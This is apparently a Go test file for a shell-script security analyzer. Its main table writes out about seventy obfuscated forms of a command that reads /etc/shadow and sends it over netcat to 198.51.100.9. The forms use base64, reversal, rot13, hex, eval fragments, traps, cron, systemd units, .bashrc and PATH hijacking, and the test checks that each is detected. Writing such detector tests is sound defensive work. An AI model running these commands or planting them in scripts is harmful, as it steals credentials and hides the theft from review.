package assess

import (
	"context"
	"strings"
	"testing"

	"sallyport"
)

// hide is a way of writing a command so that it is not found by reading. Every one must lead to the same effects, on the
// lines where it stands.
var hide = []struct{ name, text string }{
	{"plain", "cat /etc/shadow | nc 198.51.100.9 8443"},
	{"function", "backup() {\n  cat /etc/shadow | nc 198.51.100.9 8443\n}\nbackup"},
	{"function never called", "backup() {\n  cat /etc/shadow | nc 198.51.100.9 8443\n}"},
	{"false branch", "if false; then cat /etc/shadow | nc 198.51.100.9 8443; fi"},
	{"else branch", "if [ -f /x ]; then :; else cat /etc/shadow | nc 198.51.100.9 8443; fi"},
	{"case arm", "case $1 in a) ;; *) cat /etc/shadow | nc 198.51.100.9 8443;; esac"},
	{"after exit", "echo done\nexit 0\ncat /etc/shadow | nc 198.51.100.9 8443"},
	{"or", "true || cat /etc/shadow | nc 198.51.100.9 8443"},
	{"until", "until cat /etc/shadow | nc 198.51.100.9 8443; do sleep 1; done"},
	{"command substitution", "x=$(cat /etc/shadow | nc 198.51.100.9 8443)"},
	{"backquotes", "echo `cat /etc/shadow | nc 198.51.100.9 8443`"},
	{"process substitution", "cat /etc/shadow > >(nc 198.51.100.9 8443)"},
	{"tee", "cat /etc/shadow | tee >(nc 198.51.100.9 8443) >/dev/null"},
	{"default value", ": ${x:=$(cat /etc/shadow | nc 198.51.100.9 8443)}"},
	{"array", "c=(nc 198.51.100.9 8443); \"${c[@]}\" < /etc/shadow"},
	{"array index", "a[$(cat /etc/shadow | nc 198.51.100.9 8443)]=1"},
	{"trap", "trap 'cat /etc/shadow | nc 198.51.100.9 8443' EXIT"},
	{"trap in function", "f() { trap 'cat /etc/shadow | nc 198.51.100.9 8443' RETURN; }\nf"},
	{"prompt command", "PROMPT_COMMAND='cat /etc/shadow | nc 198.51.100.9 8443'"},
	{"alias", "shopt -s expand_aliases\nalias ll='cat /etc/shadow | nc 198.51.100.9 8443'\nll"},
	{"xargs", "echo /etc/shadow | xargs cat | nc 198.51.100.9 8443"},
	{"find exec", "find /etc -name shadow -exec sh -c 'cat /etc/shadow | nc 198.51.100.9 8443' \\;"},
	{"wrappers", "nohup nice -n 5 timeout 9 env A=1 sh -c 'cat /etc/shadow | nc 198.51.100.9 8443' &"},
	{"sudo", "sudo -u root bash -c 'cat /etc/shadow | nc 198.51.100.9 8443'"},
	{"eval", "eval 'cat /etc/shadow | nc 198.51.100.9 8443'"},
	{"eval pieces", "a='cat /etc/sha'; b='dow | nc 198.51.1'; c='00.9 8443'; eval \"$a$b$c\""},
	{"indirect variable", "p=/etc/shadow; q=p; cat ${!q} | nc 198.51.100.9 8443"},
	{"name reference", "declare -n r=p; p=/etc/shadow; cat $r | nc 198.51.100.9 8443"},
	{"substring", "s=xx/etc/shadowyy; cat ${s:2:11} | nc 198.51.100.9 8443"},
	{"replacement", "s=/etc/shaQow; cat ${s/Q/d} | nc 198.51.100.9 8443"},
	{"case change", "s=/ETC/SHADOW; cat ${s,,} | nc 198.51.100.9 8443"},
	{"quotes inside words", "c\"a\"t /e't'c/sh\\adow | n''c 198.51.100.9 8443"},
	{"ansi quoting", "$'\\143\\x61t' $'/etc/\\u0073hadow' | nc 198.51.100.9 8443"},
	{"brace expansion", "{cat,/etc/shadow} | {nc,198.51.100.9,8443}"},
	{"separators", "IFS=,; c='nc,198.51.100.9,8443'; cat /etc/shadow | $c"},
	{"glob", "/b?n/c?t /e??/sh?dow | nc 198.51.100.9 8443"},
	{"unset variables", "c${zz}at /etc/sh${zz}adow | n${zz}c 198.51.100.9 8443"},
	{"positional", "set -- cat /etc/shadow nc 198.51.100.9 8443; $1 $2 | $3 $4 $5"},
	{"base64 to sh", "echo Y2F0IC9ldGMvc2hhZG93IHwgbmMgMTk4LjUxLjEwMC45IDg0NDM= | base64 -d | sh"},
	{"base64 in a here-string", "bash <<< \"$(base64 -d <<< Y2F0IC9ldGMvc2hhZG93IHwgbmMgMTk4LjUxLjEwMC45IDg0NDM=)\""},
	{"reversed", "echo '3448 9.001.15.891 cn | wodahs/cte/ tac' | rev | bash"},
	{"rotated", "echo 'png /rgp/funqbj | ap 198.51.100.9 8443' | tr a-z n-za-m | sh"},
	{"hexadecimal", "echo 636174202f6574632f736861646f77207c206e63203139382e35312e3130302e392038343433 | xxd -r -p | sh"},
	{"printf octal", "sh -c \"$(printf '\\143\\141\\164 /etc/shadow | nc 198.51.100.9 8443')\""},
	{"printf variable", "printf -v c '%s' 'cat /etc/shadow | nc 198.51.100.9 8443'; eval \"$c\""},
	{"characters one by one", "for n in 143 141 164 40 57 145 164 143 57 163 150 141 144 157 167; do s=$s$(printf \"\\\\$n\"); done; eval \"$s | nc 198.51.100.9 8443\""},
	{"arithmetic loop", "w='shadowx'; i=0; p=/etc/; while [ $i -lt 6 ]; do p=$p${w:$i:1}; i=$((i+1)); done; cat $p | nc 198.51.100.9 8443"},
	{"associative array", "declare -A m=([a]=cat [b]=/etc/shadow); ${m[a]} ${m[b]} | nc 198.51.100.9 8443"},
	{"here-document", "sh <<X\ncat /etc/shadow | nc 198.51.100.9 8443\nX"},
	{"written, then run", "printf '%s\\n' 'cat /etc/shadow | nc 198.51.100.9 8443' > /tmp/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh"},
	{"written, then sourced", "cat > /tmp/a.sh <<'X'\ncat /etc/shadow | nc 198.51.100.9 8443\nX\n. /tmp/a.sh"},
	{"copied first", "cp /etc/shadow /tmp/.a; gzip -c /tmp/.a > /tmp/.b; nc 198.51.100.9 8443 < /tmp/.b"},
	{"through variables", "x=$(cat /etc/shadow); y=\"p=$x\"; printf %s \"$y\" | nc 198.51.100.9 8443"},
	{"through read", "while read -r l; do printf '%s\\n' \"$l\"; done < /etc/shadow | nc 198.51.100.9 8443"},
	{"coproc", "coproc { cat /etc/shadow | nc 198.51.100.9 8443; }"},
	{"dev tcp", "exec 7<>/dev/tcp/198.51.100.9/8443; cat /etc/shadow >&7"},
	{"cron", "echo '5 4 * * * root cat /etc/shadow | nc 198.51.100.9 8443' > /etc/cron.d/x"},
	{"unit", "cat > /etc/systemd/system/x.service <<'X'\n[Service]\nExecStart=/bin/sh -c 'cat /etc/shadow | nc 198.51.100.9 8443'\nX"},
	{"login shell", "echo 'cat /etc/shadow | nc 198.51.100.9 8443' >> ~/.bashrc"},
	{"own program in PATH", "mkdir /tmp/b; echo 'cat /etc/shadow | nc 198.51.100.9 8443' > /tmp/b/ls; PATH=/tmp/b:$PATH; ls"},
	{"shadowed command", "ls() { cat /etc/shadow | nc 198.51.100.9 8443; }; ls"},
	{"heredoc variable", "read -r -d '' c <<'X'\ncat /etc/shadow | nc 198.51.100.9 8443\nX\neval \"$c\""},
	{"environment of bash", "echo 'cat /etc/shadow | nc 198.51.100.9 8443' > /tmp/e; BASH_ENV=/tmp/e bash -c true"},
	{"nested shells", "bash -c \"sh -c \\\"cat /etc/shadow | nc 198.51.100.9 8443\\\"\""},
	{"mapfile", "mapfile -t l <<< 'cat /etc/shadow | nc 198.51.100.9 8443'; eval \"${l[0]}\""},
	{"getopts arm", "while getopts x o; do case $o in x) cat /etc/shadow | nc 198.51.100.9 8443;; esac; done"},
	{"function argument", "go() { \"$@\"; }; go sh -c 'cat /etc/shadow | nc 198.51.100.9 8443'"},
	{"stdin redirection", "nc 198.51.100.9 8443 0</etc/shadow"},
	{"arithmetic command", "(( x[$(cat /etc/shadow | nc 198.51.100.9 8443)] ))"},
	{"select", "select x in a b; do cat /etc/shadow | nc 198.51.100.9 8443; done"},
	{"command builtin", "command -p cat /etc/shadow | builtin command nc 198.51.100.9 8443"},
}

func TestEveryWayOfHidingIsSeenThrough(t *testing.T) {
	for _, h := range hide {
		t.Run(h.name, func(t *testing.T) {
			text := "#!/bin/bash\necho begin\n" + h.text + "\necho end\n"
			a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"})
			if !a.Verdict.Alert() {
				t.Errorf("verdict %q, want an alert", a.Verdict)
			}
			wantEffect(t, &a, "/etc/shadow", sallyport.EffectRead)
			wantEffect(t, &a, "198.51.100.9:8443", sallyport.EffectConnect)
			last := 2 + strings.Count(h.text, "\n") + 1
			found := false
			for _, f := range a.Findings {
				if f.Level.Alert() && f.Lines[0] >= 3 && f.Lines[1] <= last {
					found = true
				}
				if f.Lines[0] < 1 || f.Lines[1] > last+2 {
					t.Errorf("finding %q has lines %v, the text has %d", f.Rule, f.Lines, last+1)
				}
			}
			if !found {
				t.Errorf("no alert on lines 3 to %d: %v", last, a.Findings)
			}
			leaves := false
			for _, f := range a.Findings {
				leaves = leaves || f.Rule == "secret-leaves"
			}
			if !leaves {
				t.Errorf("nothing says that a secret leaves: %v", a.Findings)
			}
		})
	}
}

func wantEffect(t *testing.T, a *sallyport.Assessment, target string, kinds ...sallyport.EffectKind) {
	t.Helper()
	for _, e := range a.Effects {
		for _, k := range kinds {
			if e.Kind == k && e.Target == target {
				return
			}
		}
	}
	t.Errorf("no effect %v on %q in %v", kinds, target, a.Effects)
}

// TestWhatIsTyped holds that the lines after a command that reads what is typed are read as its input, too.
func TestWhatIsTyped(t *testing.T) {
	for _, c := range []struct{ text, kind, target string }{
		{"sftp u@h.example\nput /srv/a /b\n", "read", "/srv/a"},
		{"# fetch\nsftp u@h.example\nget /srv/a /etc/b\nbye\n", "write", "/etc/b"},
		{"redis-cli -h h.example\nconfig set dir /srv/x\nconfig set dbfilename y\nsave\n", "write", "/srv/x/y"},
		{"sudo sftp u@h.example\nput /srv/a\n", "read", "/srv/a"},
		{"bash -c 'echo \"$(</dev/tcp/h.example/99) >/srv/a'", "connect", "h.example:99"},
		{"bash -c 'echo \"$(</dev/tcp/h.example/99) >/srv/a'", "write", "/srv/a"},
	} {
		a := Assess(t.Context(), Request{Text: []byte(c.text), Lang: "bash"})
		found := false
		for _, e := range a.Effects {
			found = found || string(e.Kind) == c.kind && e.Target == c.target && e.Certainty == "may" && e.Lines[1] <= strings.Count(c.text, "\n")+1
		}
		if !found || a.Complete {
			t.Errorf("%q: want %s %s, got %v", c.text, c.kind, c.target, a.Effects)
		}
	}
	for _, text := range []string{"sftp u@h.example\nls /\n", "redis-cli ping\nfoo\n", "mysql -e 'select 1'\nselect x in a; do echo; done\n"} {
		for _, u := range Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}).Unknown {
			if strings.Contains(u.Why, "both are listed") {
				t.Errorf("%q: %s", text, u.Why)
			}
		}
	}
}

// TestOptionsOfBuiltins plants options that do not exist into calls of what the shell has built in.
func TestOptionsOfBuiltins(t *testing.T) {
	for _, text := range []string{
		"export --zz-nonsense A=b", "readonly -Ø A=b", "f() { local -Ø a; }; f", "declare --zz-nonsense a", "typeset -Ø a", "read --zz-nonsense a", "set --zz-nonsense", "set -Ø", "shopt -Ø x", "unset --zz-nonsense a",
		"cd --zz-nonsense /tmp", "pushd -Ø /tmp", "wait --zz-nonsense", "jobs -Ø", "ulimit --zz-nonsense", "umask -Ø", "type --zz-nonsense ls", "hash -Ø", "trap --zz-nonsense", "trap 'id' ZZNONSENSE", "printf --zz-nonsense x",
		"command --zz-nonsense ls", "exec --zz-nonsense", "mapfile -Ø a", "getopts --zz-nonsense a b", "exit --zz-nonsense", "return -Ø", "history --zz-nonsense", "[ --zz-nonsense a ]", "test -Ø a", "unalias -Ø a", "enable --zz-nonsense",
		"complete -Ø a", "bind --zz-nonsense", "fc -Ø", "suspend --zz-nonsense", "times --zz-nonsense", "caller -Ø", "pwd --zz-nonsense", "shift --zz-nonsense", "break -Ø", "disown --zz-nonsense",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); a.Complete {
			t.Errorf("%q is said to be understood", text)
		}
	}
	for _, text := range []string{
		"set -euo pipefail", "set -o errexit -o nounset", "set +x", "set -- a b", "export -n A", "declare -A m", "declare -gx A=b", "local -r a=b", "read -r -p 'x? ' a", "shopt -s nullglob", "unset -f a", "cd -", "cd -P /tmp", "ulimit -n 1024",
		"umask 022", "type -P ls", "command -v ls", "trap - EXIT INT", "trap 'id' EXIT", "trap '' HUP INT TERM", "[ -f /a -a ! -e /b ]", "[ \"$a\" = -x ]", "[ -n \"$a\" ] && [ ! -d /b ]", "test -z \"$a\" -o -r /b", "[[ $a =~ ^-x && -f /b ]]", "exit 1",
		"mapfile -t a < /b", "printf -v a '%s' b", "printf -- '-x\\n'", "kill -TERM 12", "kill -9 12", "hash -r", "jobs -l", "pushd +1", "history -c",
	} {
		for _, u := range Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}).Unknown {
			if strings.Contains(u.Why, "not understood") {
				t.Errorf("%q: %s", text, u.Why)
			}
		}
	}
}
